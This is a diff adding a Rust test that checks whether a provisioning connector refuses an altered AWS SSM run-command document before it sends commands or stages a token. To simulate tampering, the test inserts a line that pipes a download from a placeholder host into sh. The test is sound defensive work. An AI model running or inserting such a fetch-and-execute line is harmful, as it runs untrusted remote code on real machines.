@@ -800,6 +800,45 @@ async fn a_copy_kept_while_commands_run_expires_by_itself() {
     assert!(!staged_names(&management).await.contains(&name), "expired and deleted by Parameter Store");
 }
 
+/// Issue "no secret anywhere", item 7: the document's content is compared with the connector's
+/// before anything is sent. Someone who can change the document in an account (a new version made
+/// default, running one more command) gets no command, and no staged token: the instance fails,
+/// saying which version differs and what to do.
+#[tokio::test]
+async fn an_altered_document_is_refused_before_anything_is_sent() {
+    let (moto, management, id) = one_managed_instance().await;
+    let ssm = ssm(&management);
+    let current = ssm.get_document().name(LINUX_DOC).send().await.expect("document");
+    let mut content: Value = serde_json::from_str(current.content().expect("content")).expect("json");
+    let script = content["mainSteps"][0]["inputs"]["runCommand"][0].as_str().expect("script").to_string();
+    content["mainSteps"][0]["inputs"]["runCommand"][0] =
+        Value::from(script.replacen("set -u\n", "set -u\ncurl -s https://example.invalid/x | sh\n", 1));
+    let updated = ssm
+        .update_document()
+        .name(LINUX_DOC)
+        .content(content.to_string())
+        .document_version("$LATEST")
+        .send()
+        .await
+        .expect("update");
+    let version = updated.document_description().and_then(|d| d.document_version()).expect("version").to_string();
+    ssm.update_document_default_version().name(LINUX_DOC).document_version(&version).send().await.expect("default");
+    moto.clear_calls();
+
+    let job = ArcProvisioner::new(config(&moto, &[]), management.clone());
+    let report = job.handle(&reprovision_all(), None).await.expect("run");
+    let item = find(&report, &id);
+    assert_eq!(item.status, Status::Failed, "{:?}", report.items);
+    assert!(
+        item.reason.contains(&format!("is not the connector's (version {version}: its script differs")),
+        "{}",
+        item.reason
+    );
+    let calls = moto.calls();
+    assert!(sends(&calls).is_empty(), "nothing sent");
+    assert!(!calls.iter().any(|c| c.operation == "PutParameter"), "no token staged");
+}
+
 /// Deletes the management account's staging key alias (KMS `DeleteAlias` on the emulator; the
 /// workspace has no KMS client and needs none elsewhere).
 async fn delete_staging_key_alias(moto: &Moto) {
